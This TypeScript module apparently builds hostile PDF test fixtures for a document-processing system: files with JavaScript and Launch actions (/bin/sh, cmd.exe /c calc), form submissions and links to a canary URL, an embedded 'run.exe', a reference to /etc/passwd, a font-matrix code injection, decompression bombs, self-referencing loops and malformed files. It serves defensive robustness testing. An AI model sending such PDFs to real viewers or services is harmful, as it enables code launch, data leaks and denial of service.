import { constants, deflateRawSync, deflateSync } from 'node:zlib'
import {
  assemblePdf,
  firstExtraObject,
  pdfFile,
  type PdfObject,
  type PdfRecipe,
  plain,
  reference,
  stream,
} from './pdf.ts'

/** PDFs made to do harm, each small and quick to make (T-11). What they would call is at `canary`, a URL. */
export const hostilePdfs = (canary: string): Readonly<Record<string, Buffer>> => ({
  ...active(canary),
  ...lyingAboutPages(),
  ...oddBoxes(),
  ...loops(),
  ...bombs(),
  ...broken(),
})

const page = { text: ['A harmless page'] }
const one: PdfRecipe = { pages: [page] }

/** These would run or fetch something. */
const active = (canary: string): Record<string, Buffer> => {
  const script = `app.launchURL("${canary}/script"); this.submitForm("${canary}/form"); app.alert(1)`
  const action = (entries: string): Buffer => pdfFile({ ...one, catalog: `/OpenAction << ${entries} >>` })
  const attachment = [
    `<< /Type /Filespec /F (run.exe) /EF << /F ${reference(firstExtraObject + 1)} >> >>`,
    '<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\u0000\u0001\nendstream',
  ]
  return {
    'a script on opening': action(`/S /JavaScript /JS (${parenthesized(script)})`),
    'a script by name': pdfFile({
      ...one,
      catalog: `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${parenthesized(script)}) >>] >> >>`,
    }),
    'a program to launch': action('/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >>'),
    'an address to open': action(`/S /URI /URI (${canary}/open)`),
    'another file to open': action(`/S /GoToR /F << /FS /URL /F (${canary}/remote) >> /D [0 /Fit]`),
    'a form to send': action(`/S /SubmitForm /F << /FS /URL /F (${canary}/form) >>`),
    'a link on the page': pdfFile({
      pages: [
        {
          ...page,
          entries: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /URI /URI (${canary}/link) >> >>] /AA << /O << /S /URI /URI (${canary}/page) >> >>`,
        },
      ],
    }),
    'a file inside': pdfFile({
      ...one,
      extraObjects: attachment,
      catalog: `/Names << /EmbeddedFiles << /Names [(run.exe) ${reference(firstExtraObject)}] >> >>`,
    }),
    'content in another file': onePage([
      plain(`<< /Length 0 /F << /FS /URL /F (${canary}/content) >> >>\nstream\n\nendstream`),
    ]),
    'content on the disk': onePage([plain('<< /Length 0 /F (/etc/passwd) >>\nstream\n\nendstream')]),
    'a font as a program': pdfFile({
      pages: [
        {
          ...page,
          entries: `/Resources << /Font << /Latin << /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (0\\); require("http").get("${canary}/font")//)] >> >> >>`,
        },
      ],
    }),
  }
}

const parenthesized = (text: string): string => text.replaceAll(/[()\\]/g, String.raw`\$&`)

const lyingAboutPages = (): Record<string, Buffer> => ({
  'a million pages claimed': tree('/Count 1000000 /Kids [3 0 R]'),
  'more pages claimed than there are': tree('/Count 5000 /Kids [3 0 R]'),
  'fewer pages than none': tree('/Count -5 /Kids [3 0 R]'),
  'no pages': tree('/Count 0 /Kids []'),
  'no tree of pages': assemblePdf([plain('<< /Type /Catalog >>')]),
  'only pages that are not there': tree('/Count 10 /Kids [9 0 R]'),
  '20,000 pages': tree(`/Count 20000 /Kids [${'3 0 R '.repeat(20_000)}]`),
  '20,001 pages': tree(`/Count 20001 /Kids [${'3 0 R '.repeat(20_001)}]`),
})

const oddBoxes = (): Record<string, Buffer> => {
  const box = (right: number, top: number): Buffer => pdfFile({ pages: [{ ...page, mediaBox: [0, 0, right, top] }] })
  return {
    'a page of a billion points': box(1e9, 1e9),
    'a page as long as a road': box(1e9, 1),
    'a page as high as a mast': box(0.001, 1e6),
    'a page without any size': box(0, 0),
    'a page inside out': box(-100, -200),
    'a page of words': onePage([stream(Buffer.from(''))], '/MediaBox [(a) /b null []]'),
    'a page with an endless unit': onePage([stream(Buffer.from(''))], '/MediaBox [0 0 100 100] /UserUnit 1e30'),
  }
}

const loops = (): Record<string, Buffer> => {
  const outline = (objects: readonly string[]): Buffer =>
    pdfFile({ ...one, extraObjects: objects, catalog: `/Outlines ${reference(firstExtraObject)}` })
  const [root, first, second] = [0, 1, 2].map((index) => reference(firstExtraObject + index))
  return {
    'a table that leads to itself': Buffer.from(
      pdfFile(one)
        .toString('latin1')
        .replace(/trailer\n<< (.*) >>\nstartxref\n(\d+)/, 'trailer\n<< $1 /Prev $2 >>\nstartxref\n$2'),
      'latin1',
    ),
    'a tree of pages that holds itself': tree('/Kids [2 0 R 2 0 R 3 0 R]'),
    'a page that is its own parent': assemblePdf([
      plain('<< /Type /Catalog /Pages 2 0 R >>'),
      plain('<< /Type /Pages /Count 1 /Kids [3 0 R] /Parent 3 0 R >>'),
      plain('<< /Type /Page /Parent 3 0 R >>'),
    ]),
    'a tree of pages 100,000 deep': deepTree(100_000),
    'a drawing that draws itself': onePage(
      [
        stream(Buffer.from('/Me Do')),
        stream(
          Buffer.from('/Me Do /Me Do'),
          `/Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << /XObject << /Me 5 0 R >> >>`,
        ),
      ],
      '/MediaBox [0 0 100 100] /Resources << /XObject << /Me 5 0 R >> >>',
    ),
    'a hundred thousand open brackets': onePage([stream(Buffer.from('['.repeat(100_000)))]),
    'a catalog of open brackets': assemblePdf([plain(`<< /Type /Catalog /Pages 2 0 R /Odd ${'['.repeat(100_000)} >>`)]),
    'a length that is its own length': onePage([plain('<< /Length 4 0 R >>\nstream\nq Q\nendstream')]),
    'a bookmark that follows itself': outline([`<< /First ${first} >>`, `<< /Title (again) /Next ${first} >>`]),
    'a bookmark that holds itself': outline([
      `<< /First ${first} >>`,
      `<< /Title (again) /First ${root} /Next ${second} >>`,
      `<< /Title (end) /First ${first} >>`,
    ]),
    'bookmarks 1,000 deep': outline([
      `<< /First ${first} >>`,
      ...Array.from(
        { length: 1000 },
        (_, index) => `<< /Title (deep) /First ${reference(firstExtraObject + index + 2)} >>`,
      ),
    ]),
    '20,000 bookmarks': outline([
      `<< /First ${first} >>`,
      ...Array.from(
        { length: 20_000 },
        (_, index) => `<< /Title (wide) /Next ${reference(firstExtraObject + index + 2)} >>`,
      ),
    ]),
    'labels that lead to themselves': pdfFile({
      ...one,
      extraObjects: [`<< /Kids [${root} ${root}] /Limits [0 9] >>`],
      catalog: `/PageLabels ${root}`,
    }),
    'a bookmark to a page of another file': pdfFile({
      ...one,
      extraObjects: [`<< /First ${first} >>`, '<< /Title (elsewhere) /A << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >>'],
      catalog: `/Outlines ${root}`,
    }),
  }
}

/** A decoder gets less memory than this. */
const tooMuch = 400 * 1024 * 1024

const bombs = (): Record<string, Buffer> => {
  const bomb = deflateSync(bombOf(tooMuch))
  const twice = '/Filter [/FlateDecode /FlateDecode]'
  const image = (entries: string, content: Buffer): Buffer =>
    onePage(
      [
        stream(Buffer.from('100 0 0 100 0 0 cm /Picture Do')),
        stream(content, `/Type /XObject /Subtype /Image /ColorSpace /DeviceRGB /BitsPerComponent 8 ${entries}`),
      ],
      '/MediaBox [0 0 100 100] /Resources << /XObject << /Picture 5 0 R >> >>',
    )
  return {
    'content without an end': onePage([stream(bomb, twice)]),
    'an object stream without an end': objectStream(bomb, twice),
    'a picture of 400 MiB': image(`/Width 20000 /Height 6990 ${twice}`, bomb),
    'a picture of ten gigapixels': image(
      '/Width 100000 /Height 100000 /Filter /FlateDecode',
      deflateSync(Buffer.alloc(1000)),
    ),
    'a picture of more pixels than there are numbers': image('/Width 2147483647 /Height 2147483647', Buffer.alloc(10)),
    'a predictor of four gigabytes': image(
      '/Width 10 /Height 10 /Filter /FlateDecode /DecodeParms << /Predictor 15 /Colors 32 /BitsPerComponent 16 /Columns 67108863 >>',
      deflateSync(Buffer.alloc(1000)),
    ),
  }
}

const broken = (): Record<string, Buffer> => {
  const bytes = pdfFile({ pages: Array.from({ length: 20 }, () => page), info: { Title: 'Whole' } })
  return {
    encrypted: pdfFile({ ...one, encryption: { userPassword: 'secret', ownerPassword: 'boss' } }),
    'encrypted in a way nobody knows': assemblePdf(
      [plain('<< /Type /Catalog /Pages 2 0 R >>'), plain('<< /Type /Pages /Count 0 /Kids [] >>')],
      { trailer: '/Encrypt << /Filter /Standard /V 9 /R 9 /O (a) /U (b) /P 0 >> /ID [(a) (a)]' },
    ),
    'cut in the middle': bytes.subarray(0, bytes.length / 2),
    'cut after its first line': bytes.subarray(0, 20),
    'only a header': Buffer.from('%PDF-1.7\n'),
    'a header and noise': Buffer.concat([Buffer.from('%PDF-1.7\n'), noise(50_000)]),
    'a web page with a header': Buffer.from('<html><script>alert(1)</script>%PDF-1.4</html>'),
  }
}

const tree = (entries: string): Buffer =>
  assemblePdf([
    plain('<< /Type /Catalog /Pages 2 0 R >>'),
    plain(`<< /Type /Pages ${entries} >>`),
    plain('<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>'),
  ])

/** Objects from 4 on are the content of the page and what it needs. */
const onePage = (objects: readonly PdfObject[], entries = '/MediaBox [0 0 100 100]'): Buffer =>
  assemblePdf([
    plain('<< /Type /Catalog /Pages 2 0 R >>'),
    plain('<< /Type /Pages /Count 1 /Kids [3 0 R] >>'),
    plain(`<< /Type /Page /Parent 2 0 R /Contents 4 0 R ${entries} >>`),
    ...objects,
  ])

const deepTree = (depth: number): Buffer =>
  assemblePdf([
    plain('<< /Type /Catalog /Pages 2 0 R >>'),
    ...Array.from({ length: depth }, (_, index) =>
      plain(`<< /Type /Pages /Kids [${reference(index + 3)}] ${index > 0 ? `/Parent ${reference(index + 1)}` : ''} >>`),
    ),
    plain(`<< /Type /Page /Parent ${reference(depth + 1)} /MediaBox [0 0 100 100] >>`),
  ])

/** Deflated spaces: a block that says the same each time, over and over. */
const bombOf = (size: number): Buffer => {
  const blockSize = 1024 * 1024
  const block = deflateRawSync(Buffer.alloc(blockSize, ' '), { finishFlush: constants.Z_FULL_FLUSH })
  return Buffer.concat([Buffer.from([0x78, 0x9c]), ...Array.from({ length: size / blockSize }, () => block)])
}

/** The catalog stands in a stream of objects, which stands in the only other one. */
const objectStream = (bomb: Buffer, filters: string): Buffer => {
  const header = Buffer.from('%PDF-1.5\n')
  const objects = Buffer.concat([
    Buffer.from(`1 0 obj\n<< /Type /ObjStm /N 1 /First 10 ${filters} /Length ${bomb.length} >>\nstream\n`),
    bomb,
    Buffer.from('\nendstream\nendobj\n'),
  ])
  const tableAt = header.length + objects.length
  const entry = (kind: number, position: number): Buffer => {
    const bytes = Buffer.from([kind, 0, 0, 0, 0, 0])
    bytes.writeUInt32BE(position, 1)
    return bytes
  }
  const table = Buffer.concat([entry(0, 0), entry(1, header.length), entry(2, 1), entry(1, tableAt)])
  return Buffer.concat([
    header,
    objects,
    Buffer.from(`3 0 obj\n<< /Type /XRef /Size 4 /W [1 4 1] /Root 2 0 R /Length ${table.length} >>\nstream\n`),
    table,
    Buffer.from(`\nendstream\nendobj\nstartxref\n${tableAt}\n%%EOF`),
  ])
}

const noise = (length: number): Buffer => {
  let state = 1
  return Buffer.from(
    Array.from({ length }, () => {
      state = (Math.imul(state, 1_103_515_245) + 12_345) & 0x7f_ff_ff_ff
      return state >> 16
    }),
  )
}
